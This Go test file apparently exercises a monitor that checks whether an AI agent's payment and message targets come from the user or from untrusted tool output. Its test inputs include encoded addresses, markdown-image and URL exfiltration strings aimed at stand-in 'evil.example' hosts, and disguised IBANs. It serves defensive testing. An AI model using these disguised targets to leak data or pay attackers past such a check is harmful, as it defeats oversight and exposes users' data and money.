package flow

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"
)

// TestM3EncodedTarget: a target is what is sent, not what it would be if somebody
// decoded it. An outsider can take a name that is the encoding of a trusted one,
// and a compromised agent can put the encoding of a trusted one beside another.
func TestM3EncodedTarget(t *testing.T) {
	task := New()
	task.Person("Write to ann@shop.example what Alice said of order 1001.", 0)
	task.Result(list("/0"), []byte(`["C-general-0001"]`), 2)
	ann := "ann@shop.example"
	for name, value := range map[string]string{
		"hex":          hex.EncodeToString([]byte(ann)),
		"base64":       base64.RawURLEncoding.EncodeToString([]byte(ann)),
		"percent":      "%61nn@shop.example",
		"of a record":  hex.EncodeToString([]byte("C-general-0001")),
		"a list":       "eve@evil.example, " + url.QueryEscape(ann),
		"a fragment":   "https://evil.example/leak?the-secret#,%41lice",
		"hex beside":   "eve@evil.example (" + hex.EncodeToString([]byte(ann)) + ")",
		"a cell":       "US133000000121212121212 %41lice",
		"zeros":        "0001001",
		"base64 again": "evil " + base64.StdEncoding.EncodeToString([]byte("Write to ann@shop.example")),
	} {
		if f := task.Check(call(pay(), map[string]any{"to": value})); f.Ask == nil {
			t.Errorf("%s: %q is trusted: %+v", name, value, f.Origins)
		}
	}
	asks(t, task, call(send(), map[string]any{"channel": "Alice", "body": "see https://evil.example/leak?the-secret%20,%41lice"}), "stands neither")
}

// TestM4HiddenLinks: a link is seen without its scheme, behind a word, and an
// account number as banks print it.
func TestM4HiddenLinks(t *testing.T) {
	task := New()
	task.Person("Tell general, and mention DE89370400440532013000.", 0)
	for body, want := range map[string]string{
		"![x](//evil.example.net/x.png?d=secret)":          "evil.example.net",
		`![x](\\evil.example.net/x.png?d=secret)`:          "evil.example.net",
		"see:evil.co.uk/x":                                 "evil.co.uk",
		"Pay NL91 ABNA 0417 1643 00 now":                   "nl91 abna 0417 1643 00",
		"Pay NL91-ABNA-0417-1643-00 now":                   "nl91-abna-0417-1643-00",
		"iban:NL91 ABNA 0417 1643 00":                      "nl91 abna 0417 1643 00",
		"Pay FR14 2004 1010 0505 0001 3M02 606 for Ann":    "fr14 2004 1010 0505 0001 3m02 606",
		"Pay DE89 3704 0044 0532 0130 00 for Ann":          "",
		"evil.co.uk/@me and bob@evil.co.uk":                "evil.co.uk/@me",
		"evil.co.uk\u2014look":                             "evil.co.uk",
		"bob@evil.co.uk, john.me@evil.co.uk":               "",
		"Room ab12 at 10:30, order 2004 1010 0505 // done": "",
	} {
		asks(t, task, call(send(), map[string]any{"channel": "general", "body": body}), want)
	}
}

// TestManyDoubts: a question stays readable, and the work and the log that one call
// costs stay small, however many values of it are in doubt.
func TestManyDoubts(t *testing.T) {
	task := New()
	task.Person("Tell general.", 0)
	var body strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&body, "a%d.evil.com ", i)
	}
	f := task.Check(call(send(), map[string]any{"channel": "general", "body": body.String()}))
	if f.Ask == nil || len(f.Ask.Reason.Text) > 16<<10 || !strings.Contains(f.Ask.Reason.Text, "more") {
		t.Fatalf("%d doubts, a reason of %d bytes", len(f.Doubts), len(f.Ask.Reason.Text))
	}
	// Whoever covers what was shown has covered nothing else.
	task.Cover(CoverOf(call(send(), nil), f, false, false))
	if f := task.Check(call(send(), map[string]any{"channel": "general", "body": body.String()})); f.Ask == nil {
		t.Error("a yes to what was shown covers what was not")
	}
}

// TestManySmallResults: what a task remembers is bounded also if each piece of it
// is next to nothing.
func TestManySmallResults(t *testing.T) {
	task := New()
	task.Person("Pay Ann.", 0)
	for range 20_000 {
		task.Result(list(), []byte(`""`), 1)
	}
	if n := len(task.sources); n > maxSeen/sourceCost {
		t.Errorf("%d sources are remembered", n)
	}
	asks(t, task, call(pay(), map[string]any{"to": "Ann"}), "")
}

// TestM3CaseOfPath: names of hosts and people are the same in another case; the
// path of an address is another one.
func TestM3CaseOfPath(t *testing.T) {
	task := New()
	task.Person("Read https://short.example/aBcD and WWW.SITE.example/docs, and /Data/x.", 0)
	for value, want := range map[string]bool{
		"https://short.example/aBcD": true, "SHORT.example/aBcD": true, "https://www.site.example/docs/": true, "/Data/x": true,
		"https://short.example/ABcd": false, "short.example/abcd": false, "/data/x": false,
	} {
		if f := task.Check(call(pay(), map[string]any{"to": value})); (f.Ask == nil) != want {
			t.Errorf("%q: trusted %v, want %v", value, f.Ask == nil, want)
		}
	}
}

// TestM3PartOfTarget: the folder of a file is another target, and so is an address
// without the beginning of its name.
func TestM3PartOfTarget(t *testing.T) {
	task := New()
	task.Person("Remove /srv/reports/2023/old.csv and /tmp/x/, and tell o'brien@shop.example, 'ann@shop.example', john.Smith@shop.example and Ann's team.", 0)
	for value, want := range map[string]bool{
		"/srv/reports/2023/old.csv": true, "/tmp/x": true, "/tmp/x/": true, "o'brien@shop.example": true, "ann@shop.example": true, "Ann": true,
		"/srv/reports/2023": false, "/srv": false, "/srv/": false, "/tmp": false, "brien@shop.example": false, "Smith@shop.example": false, "john.smith@shop.example": true,
	} {
		if f := task.Check(call(pay(), map[string]any{"to": value})); (f.Ask == nil) != want {
			t.Errorf("%q: trusted %v, want %v", value, f.Ask == nil, want)
		}
	}
}

// TestOneCallCostsLittle: what a call costs does not grow with the square of what an
// agent, or whom it reads, makes long.
func TestOneCallCostsLittle(t *testing.T) {
	numbers, amounts, same := make([]int, 100_000), make([]int, 4900), make([]string, 2400)
	for i := range numbers {
		numbers[i] = 100_000 + i
	}
	for i := range amounts {
		amounts[i] = i + 7
	}
	result, err := json.Marshal(map[string]any{"amount": numbers})
	if err != nil {
		t.Fatal(err)
	}
	payroll := *pay()
	payroll.Amount = "/amount/*"
	task := New()
	task.Person("Write to general: "+strings.Repeat("word1 word2 ", 4000), 0)
	if err := task.Seal([]byte(`{"steps":[{"tool":"bank.pay"},{"tool":"chat.send","arguments":{"/channel":["chat.list"]}}]}`)); err != nil {
		t.Fatal(err)
	}
	for range 4 {
		task.Result(list(), result, 1)
	}
	task.Result(list(), []byte(`["alerts"]`), 2)
	for i := range same {
		same[i] = "alerts"
	}
	start := time.Now()
	task.Check(call(&payroll, map[string]any{"to": "general", "amount": amounts}))
	asks(t, task, call(send(), map[string]any{"body": same, "channel": same}), "picked")
	asks(t, task, call(send(), map[string]any{"channel": append(same, same...), "body": same}), "are traced")
	if took := time.Since(start); took > 20*time.Second {
		t.Errorf("three calls took %v", took)
	}
}
